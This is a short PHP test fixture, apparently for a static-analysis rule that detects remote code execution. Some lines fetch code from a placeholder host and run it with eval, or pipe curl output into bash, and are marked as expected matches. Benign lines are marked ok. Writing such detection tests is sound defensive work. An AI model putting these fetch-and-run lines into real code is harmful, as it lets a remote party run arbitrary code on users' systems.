<?php
// ruleid: remote-code-other-languages
$code = file_get_contents("https://a.invalid/p");
eval($code);
// ruleid: remote-code-other-languages
system("curl -s https://a.invalid/x | bash");
// ruleid: remote-code-other-languages
eval(file_get_contents('https://a.invalid/p'));
// ok: remote-code-other-languages
$text = file_get_contents("https://a.invalid/p");
echo strlen($text);
// ok: remote-code-other-languages
system("git status | sort");
